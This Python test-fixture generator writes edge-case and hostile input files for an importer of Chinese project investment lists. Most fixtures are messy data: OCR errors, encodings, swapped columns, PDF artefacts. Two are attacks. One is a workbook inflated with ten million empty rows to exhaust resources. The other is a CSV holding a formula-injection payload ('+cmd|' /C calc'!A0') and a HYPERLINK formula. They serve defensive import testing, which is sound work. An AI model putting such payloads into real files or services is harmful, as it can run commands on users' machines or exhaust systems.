        sheet = sheet.replace(f'r="{col}2"', f'r="{col}2000000000"')
    _workbook6(HERE / "row_number_billion.xlsx", [("项目", sheet)])
    # 60 MB of empty <row/> in a 90 KB workbook: under the 64 MB bound, 21 CPU-s and 1 GB to read.
    plain = _xlsx11(_BASE11)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as o:
        for name in z.namelist():
            data = z.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b"<row/>" * 10_000_000)
            o.writestr(name, data)
    (HERE / "empty_rows_bomb.xlsx").write_bytes(out.getvalue())
    # English lists: RMB '000 (read as yuan, 1,000 times too small), a title naming the province in English with
    # short city names (Suzhou: Jiangsu's or Anhui's), and lists read right already.
    (HERE / "en_rmb_thousand.csv").write_bytes(("Project,Location,Total Investment (RMB '000)\n" + _lines8(
        'Wafer Packaging,"Suzhou, Jiangsu",1500000', 'Biomedicine Center,"Nanjing, Jiangsu",800000')).encode())
    (HERE / "en_title_cities.csv").write_bytes((
        "Key Projects of Jiangsu Province in 2024\nUnit: RMB 10,000\nNo.,Project Name,City,Total Investment,"
        "Start-End\n" + _lines8("1,Wafer Packaging,Suzhou,150000,2024-2026", "2,Biomedicine Center,Nanjing,80000,"
                                "2024-2027", "Total,,,230000,")).encode())
    (HERE / "en_province_city_county.csv").write_bytes((
        'Project Name,Province,City,County,"Total Investment (RMB 10,000)",Start Year,End Year\n' + _lines8(
            "Wafer Level Packaging Project,Jiangsu,Suzhou,Kunshan,150000,2024,2026",
            "Biomedicine Innovation Center,Jiangsu Province,Nanjing City,Jiangning District,80000,2024,2027",
            "Hydrogen Fuel Cell Base,Shanghai,Shanghai,Pudong New Area,60000,2025,2027")).encode())
    (HERE / "en_bn_mn.csv").write_bytes(("Project,Location,Investment\n" + _lines8(
        'Project A,"Suzhou, Jiangsu",RMB 1.5 bn', 'Project B,"Suzhou, Jiangsu",RMB 300 mn',
        'Project C,"Suzhou, Jiangsu",CNY 2 billion', 'Project D,"Suzhou, Jiangsu",500 million yuan')).encode())
    (HERE / "en_cny_100m.csv").write_bytes(("Project,Location,Total investment (CNY 100 million),Construction "
                                            "period\n" + _lines8('Wafer Packaging,"Suzhou, Jiangsu",15,2024-2026',
                                                                 'Biomedicine Center,"Nanjing, Jiangsu",8.5,2024-2027')
                                            ).encode())
    # A header in traditional characters over simplified data, in UTF-8 and in Big5 (all traditional).
    (HERE / "trad_header_simplified.csv").write_bytes(("項目名稱,建設地點,總投資（萬元）,建設起止年限,建設階段\n"
                                                       "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026,在建\n").encode())
    (HERE / "traditional_big5.csv").write_bytes(("項目名稱,建設地點,總投資（萬元）,建設起止年限\n" + _lines8(
        "蘇州晶圓封裝項目,江蘇省蘇州市,150000,2024-2026")).encode("big5"))
    # An OA system's export: its query line above, its exporter, time and record count below (each a project);
    # a notice's distribution line (抄送：…); page numbers of a PDF copied with the table (- 1 -, — 2 —, 1/3).
    (HERE / "oa_export_lines.csv").write_bytes(("查询条件：年度=2024；地区=江苏省\n" + _HEAD11 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "南京生物医药中心,江苏省南京市,80000,2024-2027",
        "导出人：张三", "导出时间：2024-05-01 10:00:00", "共2条记录", "抄送：省发展改革委")).encode())
    (HERE / "pdf_page_numbers.csv").write_bytes((_HEAD11 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "- 1 -,,,", "— 2 —,,,", "1/3,,,",
        "南京生物医药中心,江苏省南京市,80000,2024-2027")).encode())
    # A template's example and prompt rows left above the steward's own.
    (HERE / "template_examples.csv").write_bytes((_HEAD11 + _lines8(
        "例：苏州某某项目,江苏省苏州市,10000,2024-2026", "（示例）苏州晶圆封装项目,江苏省苏州市,10000,2024-2026",
        "XX市XX产业园项目,江苏省苏州市,10000,2024-2026", "南京生物医药中心,江苏省南京市,80000,2024-2027")).encode())
    # A WPS in-cell picture (DISPIMG) in a picture column and in a name cell: the latter was a project's name.
    _workbook6(HERE / "wps_cell_pictures.xlsx", [("Sheet1", _sheet6([
        (1, ["项目名称", "建设地点", "总投资（万元）", "效果图"]),
        (2, ["苏州晶圆封装项目", "江苏省苏州市", 150000,
             ("str", '<f>_xlfn.DISPIMG("ID_8A1B2C3D",1)</f><v>=DISPIMG("ID_8A1B2C3D",1)</v>')]),
        (3, [("str", '<f>_xlfn.DISPIMG("ID_99",1)</f><v>=DISPIMG("ID_99",1)</v>'), "江苏省南京市", 80000, ""])]))])
    # A year typed in the amount column and the amount in the year column: 2024万元 stored for 8亿元.
    (HERE / "amount_year_swapped.csv").write_bytes(("项目名称,建设地点,总投资（万元）,开工年份\n" + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024", "南京生物医药中心,江苏省南京市,2024,80000")).encode())
    # Names copied from a PDF with a space after every character.
    (HERE / "pdf_spaced_names.csv").write_bytes((_HEAD11 + _lines8(
        "苏 州 晶 圆 封 装 项 目,江 苏 省 苏 州 市,150000,2024-2026",
        "南京 生物医药 中心,江苏省南京市,80000,2024-2027")).encode())
    # An HTML export (.xls) holding 15.2345 in x:num and showing 15.23: the shown figure was stored.
    (HERE / "html_held_numbers.xls").write_bytes(html_export(
        "<table><tr><td>项目名称</td><td>建设地点</td><td>总投资（亿元）</td></tr><tr><td>苏州晶圆封装项目</td>"
        '<td>江苏省苏州市</td><td x:num="15.2345">15.23</td></tr><tr><td>南京生物医药中心</td><td>江苏省南京市</td>'
        '<td x:num="1500000">15.00</td></tr></table>').encode())
    # Ditto marks (同上, 〃, ”) in the place and period columns: "unknown place 同上".
    (HERE / "ditto_marks.csv").write_bytes((_HEAD11 + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "苏州光伏组件项目,同上,1000,同上",
        "苏州储能项目,〃,1000,〃", "苏州氢能项目,”,1000,2024-2027",
        "南京医药项目,江苏省南京市,1000,2024-2026")).encode())
    # The amount written in 备注 with the amount column empty (lost unsaid), and in a list with no amount column.
    (HERE / "amount_in_remark.csv").write_bytes(("项目名称,建设地点,总投资（万元）,备注\n" + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,,总投资15亿元", "南京生物医药中心,江苏省南京市,,80000",
        "无锡储能项目,江苏省无锡市,1000,")).encode())
    (HERE / "remark_total_only.csv").write_bytes(("项目名称,建设地点,备注\n" + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,总投资15亿元")).encode())
    # A PDF copy's rows broken in two: a name's second half, an amount on the line below.
    (HERE / "pdf_broken_rows.csv").write_bytes((_HEAD11 + _lines8(
        "苏州晶圆级先进封装,江苏省苏州市,150000,2024-2026", "测试项目,,,",
        "南京生物医药中心,江苏省南京市,,2024-2027", ",,80000,")).encode())
    # A scan read by OCR: letters for digits in amounts.
    (HERE / "ocr_amount_letters.csv").write_bytes((_HEAD11 + _lines8(
        "甲项目,江苏省苏州市,15OOOO,2024-2026", "乙项目,江苏省苏州市,l50000,2024-2026",
        "丙项目,江苏省苏州市,1S0000,2024-2026", "丁项目,江苏省苏州市,150000,2024-2026")).encode())
    # A start year computed by YEAR(TODAY()): the year the file was saved, read as the list's.
    _workbook6(HERE / "volatile_formulas.xlsx", [("项目", _sheet6([
        (1, ["项目名称", "建设地点", "总投资（万元）", "开工年份"]),
        (2, ["苏州晶圆封装项目", "江苏省苏州市", 150000, ("", "<f>YEAR(TODAY())</f><v>2026</v>")]),
        (3, ["南京生物医药中心", "江苏省南京市", 80000, 2024])]))])
    # Formula-like text in every column (downloads must not hand it to a spreadsheet as a formula).
    (HERE / "formula_text_names.csv").write_bytes((
        "项目名称,建设地点,总投资（万元）,建设起止年限,建设单位\n" + _lines8(
            '"=HYPERLINK(""http://x.example/"",""苏州项目"")",江苏省苏州市,150000,2024-2026,=1+1',
            "+cmd|' /C calc'!A0,江苏省南京市,80000,2024-2027,@SUM(A1)",
            "＝1+1 项目,江苏省无锡市,1000,2024-2026,-2+3")).encode())


def write_all() -> None:
    (HERE / "gbk_title_total.csv").write_bytes(GBK_TITLE_TOTAL.replace("\n", "\r\n").encode("gbk"))
    (HERE / "utf8_bom_english.csv").write_bytes(b"\xef\xbb\xbf" + UTF8_BOM_ENGLISH.encode("utf-8"))
    text = "\r\n".join("\t".join(r) for r in UTF16_TAB) + "\r\n"
    (HERE / "utf16_tab.txt").write_bytes(text.encode("utf-16"))  # with BOM, as Excel writes it
    (HERE / "messy_amounts.csv").write_bytes(MESSY_AMOUNTS.encode("utf-8"))
    (HERE / "unknown_places.csv").write_bytes(UNKNOWN_PLACES.encode("gb18030"))
    (HERE / "empty.csv").write_bytes(b"")
    (HERE / "header_only.csv").write_bytes(HEADER_ONLY.encode("utf-8"))
    (HERE / "no_name_column.csv").write_bytes(NO_NAME_COLUMN.encode("utf-8"))
    (HERE / "binary.csv").write_bytes(BINARY)
    write_xlsx(HERE / "notes_sheet_merged_title.xlsx")
    try:
        write_xls(HERE / "legacy_hubei.xls")
    except ImportError:  # xlwt is only needed to regenerate the legacy file; keep the committed one
        pass
    write_hostile()
    write_hostile2()
    write_hostile3()
    write_lists()
    write_resid()
    write_hostile4()
    write_lists2()
    write_imports5()
    write_hostile5()
    write_lists3()
    write_lists4()
    write_hostile6()
    write_lists5()
    write_hostile7()
    write_lists6()
    write_hostile8()
    write_leftovers9()
    write_lists7()
    write_hostile9()
    write_leftovers10()
    write_hostile10()
    write_lists8()
    write_lists9()
    write_leftovers11()
    write_hostile11()
    write_leftovers12()
    write_hostile12()
    write_hostile13()


# ------------------------------------------------------------------------------- round 11's leftovers (s32)
# Classes round 11 (s31-hostile11, leftovers11) found and left: shifted and swapped rows, OCR letters in years,
# places (Suzhou alone, English districts, project codes, city clusters), headers merged over three columns, PDF
# text in runs of spaces, damaged zip part names, polyglots, HTML held figures at another scale, GB/T 4754 classes.


def write_leftovers12() -> None:
    """Round 11's classes left unfixed (s32-leftovers12; tests/test_import_leftovers12.py)."""
    import openpyxl

    # OCR letters in years (2O24-2O26, 2〇24, l998, 2o25; 2O24-2026 was read as 2026 alone); a full stop after an
    # amount, digits spaced out by a PDF copy, a full stop between digits.
    (HERE / "ocr_years.csv").write_bytes((_HEAD10 + _lines8(
        "甲项目,江苏省苏州市,150000,2O24-2O26", "乙项目,江苏省苏州市,150000,2〇24-2〇26",
        "丙项目,江苏省苏州市,150000,l998", "丁项目,江苏省苏州市,150000,2o25", "戊项目,江苏省苏州市,150000,2O24-2026",
        "己项目,江苏省苏州市,150000。,2024-2026", "庚项目,江苏省苏州市,1 5 0 0 0 0,2024-2026",
        "辛项目,江苏省苏州市,1。5亿元,2024-2026", "壬项目,江苏省苏州市,15〇〇〇〇,2024-2026")).encode())

    # Rows shifted a cell right (an extra empty cell first), left (the amount missing), two columns' values swapped
    # (2024-2026 under the stage, 在建 under the years); and a row missing one of two amounts (which one, unclear).
    (HERE / "rows_shifted.csv").write_bytes(("项目名称,建设地点,总投资（万元）,建设阶段,建设起止年限\n" + _lines8(
        "苏州晶圆封装项目,江苏省苏州市,150000,在建,2024-2026", ",南京生物医药中心,江苏省南京市,80000,在建,2024-2027",
        "无锡储能项目,江苏省无锡市,1000,2024-2026,在建", "常州电池项目,江苏省常州市,在建,2024-2026")).encode())
    (HERE / "rows_shifted_unclear.csv").write_bytes((
        "项目名称,建设地点,总投资（万元）,2024年计划投资（万元）,建设起止年限\n" + _lines8(
            "甲项目,江苏省苏州市,50000,2024-2026", "乙项目,江苏省苏州市,50000,10000,2024-2026")).encode())
    # Places: Suzhou alone (苏州 or 宿州), English districts, city clusters of the State Council's approvals.
    (HERE / "places12.csv").write_bytes(("项目名称,建设地点,总投资（万元）\n" + _lines8(
        "甲项目,Suzhou,1000", '乙项目,"Pudong New Area, Shanghai",1000', "丙项目,Binhai New Area,1000",
        "丁项目,Binhai,1000", "戊项目,中原城市群,1000", "己项目,呼包鄂榆城市群,1000", "庚项目,兰州—西宁城市群,1000",
        '辛项目,"Jiangning District, Nanjing",1000')).encode())
    # National project codes beside an empty place cell, and as the only place a list gives.
    (HERE / "project_codes.csv").write_bytes(("项目代码,项目名称,建设地点,总投资（万元）\n" + _lines8(
        "2020-320505-39-03-123456,甲项目,,1000", "2021-110105-65-01-000001,乙项目,江苏省南京市,1000")).encode())
    (HERE / "project_codes_only.csv").write_bytes(("统一项目代码,项目名称,总投资（万元）\n" + _lines8(
        "2020-320505-39-03-123456,甲项目,1000", "2022-420111-44-02-000123,乙项目,2000")).encode())
    # A header merged over three columns (总投资（万元） over C, D and E): E's figures were an unmapped column.
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["项目名称", "建设地点", "总投资（万元）", None, None, "建设起止年限"])
    ws.append(["苏州晶圆封装项目", "江苏省苏州市", 150000, None, None, "2024-2026"])
    ws.append(["南京生物医药中心", "江苏省南京市", None, 80000, None, "2024-2027"])
    ws.append(["无锡储能项目", "江苏省无锡市", None, None, 1000, "2024-2026"])
    ws.merge_cells("C1:E1")
    book.save(HERE / "header_merged_three.xlsx")
    # Text copied from a PDF: columns as runs of spaces; and one cell per line.
    (HERE / "pdf_columns_spaces.txt").write_bytes((
        "江苏省2024年重大项目\n"
        "项目名称          建设地点        总投资（万元）   建设起止年限\n"
        "苏州晶圆封装项目  江苏省苏州市    150000         2024-2026\n"
        "南京生物医药中心  江苏省南京市    80000          2024-2027\n").encode())
    (HERE / "one_cell_per_line.txt").write_bytes("\n".join([
        "项目名称", "建设地点", "总投资（万元）", "苏州晶圆封装项目", "江苏省苏州市", "150000", "南京生物医药中心",
        "江苏省南京市", "80000"]).encode() + b"\n")
    # A workbook whose part names use backslashes, one whose sheet's name is in capitals (Excel repairs both).
    plain = _xlsx11(_BASE11)
    for name, rename in (("xlsx_backslash_parts.xlsx", lambda n: n.replace("/", "\\") if n.startswith("xl/") else n),
                         ("xlsx_case_parts.xlsx", lambda n: n.upper() if n.startswith("xl/worksheets/") else n)):
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(plain)) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as o:
            for info in z.infolist():
                o.writestr(rename(info.filename), z.read(info.filename))
        (HERE / name).write_bytes(out.getvalue())
    # Polyglots: an image's signature before CSV text.
    csv_text = (_HEAD11 + _lines8("苏州晶圆封装项目,江苏省苏州市,150000,2024-2026")).encode()
    (HERE / "gif_polyglot.csv").write_bytes(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + csv_text)
    (HERE / "png_polyglot.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + csv_text)
    # An HTML export holding 1500000 where it shows 15.00 (a format in 万): the shown figure read, now said.
    (HERE / "html_other_scale.xls").write_bytes(_html10(
        "<table><tr><td>项目名称</td><td>建设地点</td><td>总投资（亿元）</td></tr><tr><td>苏州晶圆封装项目</td>"
        '<td>江苏省苏州市</td><td x:num="150000">15.00</td></tr><tr><td>南京生物医药中心</td><td>江苏省南京市</td>'
        '<td x:num="8">8.00</td></tr></table>').encode())
    # GB/T 4754 classes under 行业类别: one SEI sector (2720 化学药品制剂制造: biotech), several (C3985, C3842), none.
    (HERE / "industry_class_hint.csv").write_bytes(("项目名称,建设地点,总投资（万元）,行业类别\n" + _lines8(
        "某煤矿洗选项目,山西省大同市,1000,061 烟煤和无烟煤开采洗选",
        "甲公司扩建项目,江苏省苏州市,2000,C3985 电子专用材料制造",
        "乙公司技改项目,江苏省南京市,3000,2720 化学药品制剂制造",
        "南京生物医药中心,江苏省南京市,3000,3985 电子专用材料制造",
        "丙公司新建项目,江苏省无锡市,3000,C3842 锂离子电池制造")).encode())
    # Siblings: OCR letters in start and end columns, a year column holding the stage and a stage column the
    # years with other spellings, an ideographic full stop after a unit.
    (HERE / "leftovers12_siblings.csv").write_bytes((
        "项目名称,建设地点,总投资,开工年份,竣工年份,项目状态\n" + _lines8(
            "甲项目,江苏省苏州市,15亿元。,2O26,2O28,在建", "乙项目,江苏省苏州市,1 5 0 0 万元,2026,2028,续建",
            "丙项目,江苏省苏州市,2000,竣工,2023,2021", "丁项目,江苏省苏州市,2000,2024,2026,新开工")).encode())
    # Siblings: a place and an amount swapped, an amount and a year swapped, Taizhou and Suzhou City (two cities each);
    # a PDF copy whose columns are set apart by ideographic spaces.
    (HERE / "leftovers12_siblings2.csv").write_bytes((_HEAD11 + _lines8(
        "甲项目,150000,江苏省苏州市,2024-2026", "乙项目,Taizhou,1000,2024-2026", "丙项目,Suzhou City,1000,2024-2026",
        "丁项目,江苏省苏州市,2024-2026,150000")).encode())
    (HERE / "pdf_columns_ideographic.txt").write_bytes((
        "项目名称\u3000\u3000建设地点\u3000\u3000总投资（万元）\n苏州晶圆封装项目\u3000\u3000江苏省苏州市\u3000\u3000150000\n"
        "南京生物医药中心\u3000\u3000江苏省南京市\u3000\u300080000\n").encode("gbk"))


if __name__ == "__main__":
    write_all()
    for path in sorted(HERE.iterdir()):
        if path.suffix != ".py":
            print(f"{path.name:<32}{path.stat().st_size:>8} bytes")


# ------------------------------------------------------------------------------------------- round 12 (s33)
# Round 11's two classes left (a name and a place swapped where the name cell is a place alone; a table pasted one
# cell per line), and the classes round 12 found: a hidden column's unit moved onto its visible twin, radicals a
# PDF gives for whole characters, cheque-style amounts, a province followed by another province's city, number
# formats that scale without a unit, a short UTF-8 file with one damaged character, full-width commas between
# fields, an autofilter's hidden rows.


def write_hostile12() -> None:
    """Round 12's inputs (s33-hostile12; tests/test_import_hostile12.py)."""
    import openpyxl

    # A name cell holding a place alone and the place cell the project's name; two place columns each with a name.
    (HERE / "name_is_place_swapped.csv").write_bytes((HEAD + lines(
        "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026", "江苏省南京市,南京生物医药中心,80000,2024-2027",
        "无锡市,无锡储能项目,1000,2024-2026")).encode())
    (HERE / "name_is_place_unclear.csv").write_bytes(("项目名称,城市,区县,总投资（万元）\n" + lines(
        "苏州晶圆封装项目,苏州市,昆山市,150000", "南京市,南京生物医药中心,江宁生物医药园项目,80000")).encode())
    # One cell per line: a title, four headers, two projects (rebuilt); a cell missing (uneven); two cells in each
    # other's place (a misfit); a blank line among the values.
    cells = ["项目名称", "建设地点", "总投资（万元）", "建设起止年限", "苏州晶圆封装项目", "江苏省苏州市", "150000",
             "2024-2026", "南京生物医药中心", "江苏省南京市", "80000", "2024-2027"]
    (HERE / "one_cell_rebuilt.txt").write_bytes("\n".join(["江苏省2024年重大项目", *cells]).encode() + b"\n")
    (HERE / "one_cell_uneven.txt").write_bytes("\n".join(cells[:9] + cells[10:]).encode() + b"\n")
    (HERE / "one_cell_misfit.txt").write_bytes("\n".join(cells[:5] + [cells[6], cells[5]] + cells[7:]).encode()
                                               + b"\n")
    (HERE / "one_cell_blank.txt").write_bytes("\n".join(cells[:8] + [""] + cells[8:]).encode() + b"\n")
    # An OA export: 总投资（亿元） hidden beside 总投资（万元） shown; the 亿元 was applied to the 万元 figures.
    book = openpyxl.Workbook()
    ws = book.active
    for row in (["项目名称", "建设地点", "总投资（亿元）", "总投资（万元）", "建设起止年限"],
                ["苏州晶圆封装项目", "江苏省苏州市", 15, 150000, "2024-2026"],
                ["南京生物医药中心", "江苏省南京市", 0.0008, 8, "2024-2027"]):
        ws.append(row)
    ws.column_dimensions["C"].hidden = True
    book.save(HERE / "hidden_twin_units.xlsx")
    # A PDF's text layer: Kangxi radicals and the radicals supplement's simplified forms for whole characters.
    (HERE / "pdf_radicals.csv").write_bytes(("项⽬名称,建设地点,总投资（万元）,建设起止年限\n" + lines(
        "⻓沙⾼新区智能制造项目,湖南省⻓沙市,150000,2024-2026",
        "⻔窗⽣产线项目,江苏省南京市,80000,2024-2027")).encode())
    # Amounts as on a cheque.
    (HERE / "amount_cheque_words.csv").write_bytes(("项目名称,建设地点,总投资\n" + lines(
        "苏州晶圆封装项目,江苏省苏州市,人民币捌仟万元整", "南京生物医药中心,江苏省南京市,人民币：8000万元",
        "无锡储能项目,江苏省无锡市,1500万元整")).encode())
    # A province and a city of another province: in two columns, in one cell; a street named after a city.
    (HERE / "province_city_clash.csv").write_bytes(("项目名称,省份,城市,总投资（万元）\n" + lines(
        "苏州晶圆封装项目,浙江省,苏州市,150000", "南京生物医药中心,江苏省,南京市,80000")).encode())
    (HERE / "province_city_clash_cell.csv").write_bytes(("项目名称,建设地点,总投资（万元）\n" + lines(
        "苏州晶圆封装项目,浙江苏州,150000", "杭州储能项目,浙江省南京路,1000", "南京生物医药中心,江苏省南京市,80000")
                                                        ).encode())
    # Number formats that scale without naming a unit: #,##0, (thousands) and 0!.0000 (万) over figures in 元.
    book = openpyxl.Workbook()
    ws = book.active
    for row in (["项目名称", "建设地点", "总投资（万元）"], ["苏州晶圆封装项目", "江苏省苏州市", 150_000_000],
                ["南京生物医药中心", "江苏省南京市", 800_000_000], ["无锡储能项目", "江苏省无锡市", 1000]):
        ws.append(row)
    ws["C2"].number_format = "#,##0,"
    ws["C3"].number_format = "0!.0000"
    book.save(HERE / "format_scaled_no_unit.xlsx")
    # A short UTF-8 file with one character written as a UTF-16 surrogate's three bytes (refused as binary).
    (HERE / "utf8_surrogate_bytes.csv").write_bytes(
        (HEAD + "苏州晶圆封装项目,江苏省苏州市,150000,2024-2026\n").encode()
        + "南京\udcff项目,江苏省南京市,80000,2024-2027\n".encode("utf-8", "surrogatepass"))
    # A list typed with full-width commas between fields ("no header").
    (HERE / "wide_commas.csv").write_bytes(("项目名称，建设地点，总投资（万元），建设起止年限\n"
                                            "苏州晶圆封装项目，江苏省苏州市，１５００００，２０２４－２０２６\n"
                                            "南京生物医药中心，江苏省南京市，８００００，２０２４－２０２７\n").encode())
    # A sheet filtered by its autofilter: the rows the filter hides are rows of the sheet.
    book = openpyxl.Workbook()
    ws = book.active
    for row in _BASE11 + [["无锡储能项目", "江苏省无锡市", 1000, "2024-2026"]]:
        ws.append(row)
    ws.auto_filter.ref = f"A1:D{ws.max_row}"
    ws.auto_filter.add_filter_column(1, ["江苏省苏州市"])
    for r in range(3, ws.max_row + 1):
        ws.row_dimensions[r].hidden = True
    book.save(HERE / "autofilter_hidden.xlsx")


# ------------------------------------------------------------------------------- round 13 (s34)
# Round 12's leftovers (a struck run inside a rich-text cell, one short name in two cities, an amount written as a
# sum, Mac OS Roman, a stray cell at XFD1, a bond issue's amount, 台湾's cities) and what round 13's inputs found
# (Excel's _xHHHH_ escapes, "more than" after the unit, a figure per year).


def write_hostile13() -> None:
    """Round 13's inputs (s34-hostile13; tests/test_import_hostile13.py)."""
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    # A name with one word struck through inside the cell (a steward's edit), not the whole cell.
    book = workbook([HEADER, ["苏州晶圆封装项目", "江苏省苏州市", 150000, "2024-2026"],
                     ["南京生物医药中心", "江苏省南京市", 80000, "2024-2027"]])
    book.active["A2"] = CellRichText(["苏州晶圆", TextBlock(InlineFont(strike=True), "旧"), "封装项目"])
    book.save(HERE / "struck_run_rich.xlsx")
    # A list numbering each city's projects apart: one short name in two cities of one province.
    (HERE / "same_name_two_cities.csv").write_bytes((HEAD + lines(
        "光伏项目,江苏省苏州市,150000,2024-2026", "光伏项目,江苏省南京市,80000,2024-2026")).encode())
    # Amounts typed as arithmetic without Excel's =: a sum, and a quotient.
    (HERE / "amount_expressions.csv").write_bytes((HEAD + lines(
        "苏州晶圆封装项目,江苏省苏州市,100000+50000,2024-2026", "南京生物医药中心,江苏省南京市,80000/60000,2024-2027",
        "无锡储能项目,江苏省无锡市,800+200万元,2024-2026")).encode())
    # An English list saved on a Mac (Mac OS Roman: é is byte 8E, Windows-1252's Ž).
    (HERE / "mac_roman.csv").write_bytes((
        "Project name,Province,City,Total investment (10k yuan),Period\n"
        "Café Solar Plant,Jiangsu,Nanjing,150000,2024-2026\n"
        "Naïve Biotech – Centre,Jiangsu,Wuxi,80000,2024-2027\n").encode("mac_roman"))
    # A note typed far right of the table, at XFD1 (column 16,384).
    book = workbook([HEADER, ["苏州晶圆封装项目", "江苏省苏州市", 150000, "2024-2026"],
                     ["南京生物医药中心", "江苏省南京市", 80000, "2024-2027"]])
    book.active["XFD1"] = "注：单位万元"
    book.save(HERE / "stray_cell_xfd1.xlsx")
    # A bond disclosure's amount of the issue (本次发行额), beside the project's total investment.
    (HERE / "bond_issue_amount.csv").write_bytes(("项目名称,建设地点,本次发行额（亿元）,总投资（万元）\n" + lines(
        "苏州晶圆封装项目,江苏省苏州市,2.5,150000")).encode())
    # 台湾's cities, in traditional and simplified forms, with and without the province.
    (HERE / "taiwan_places.csv").write_bytes((HEAD + lines(
        "臺北半導體項目,臺灣省臺北市,150000,2024-2026", "台中精密机械项目,台湾台中市,80000,2024-2027",
        "臺南光電項目,臺南市,1000,2024-2026")).encode())
    # Excel's escapes of characters in strings (_x000D_: a carriage return; _x005F_: an underscore), shared and
    # inline, as a generator that escapes every control character writes them.
    _workbook6(HERE / "xstring_escapes.xlsx", [("项目", _sheet6([
        (1, [("s", "<v>0</v>"), "建设地点", "总投资（万元）", "建设起止年限"]),
        (2, [("s", "<v>1</v>"), "江苏省苏州市", 150000, "2024-2026"]),
        (3, ["南京_x005F_x0041_中心", "江苏省南京市", 80000, "2024-2027"])]))],
        shared=["项目_x000D__x000A_名称", "苏州晶圆_x000D__x000A_封装项目"])
    # A cell pointing past the shared strings (<v>99</v> of 2): refused as "damaged (cut off?)", the cell unnamed.
    _workbook6(HERE / "shared_string_missing.xlsx", [("项目", _sheet6([
        (1, HEADER), (2, [("s", "<v>0</v>"), "江苏省苏州市", 150000, "2024-2026"]),
        (3, [("s", "<v>99</v>"), "江苏省南京市", 80000, "2024-2027"])]))],
        shared=["苏州晶圆封装项目", "南京生物医药中心"])
    # One cell written twice, both shared strings: the refusal named the strings' numbers ("0" and "1").
    _workbook6(HERE / "cell_twice_shared.xlsx", [("项目", _sheet6([
        (1, HEADER), (2, [("s", "<v>0</v>"), "江苏省苏州市", 150000, "2024-2026"])]).replace(
        "</row></sheetData>", '<c r="A2" t="s"><v>1</v></c></row></sheetData>'))],
        shared=["苏州晶圆封装项目", "另一个项目"])
    # "More than" after the unit (15亿余元, 1500万多元), and figures per year under 总投资 and a year's plan.
    (HERE / "amount_more_after_unit.csv").write_bytes((HEAD + lines(
        "苏州晶圆封装项目,江苏省苏州市,15亿余元,2024-2026", "南京生物医药中心,江苏省南京市,8亿多元,2024-2027",
        "无锡储能项目,江苏省无锡市,1500万余元,2024-2026")).encode())
    (HERE / "amount_per_year.csv").write_bytes(("项目名称,建设地点,总投资（万元）,2025年计划投资（万元）\n" + lines(
        "苏州晶圆封装项目,江苏省苏州市,150000,5000万元/年",
        "南京生物医药中心,江苏省南京市,80000万元/年,3000")).encode())
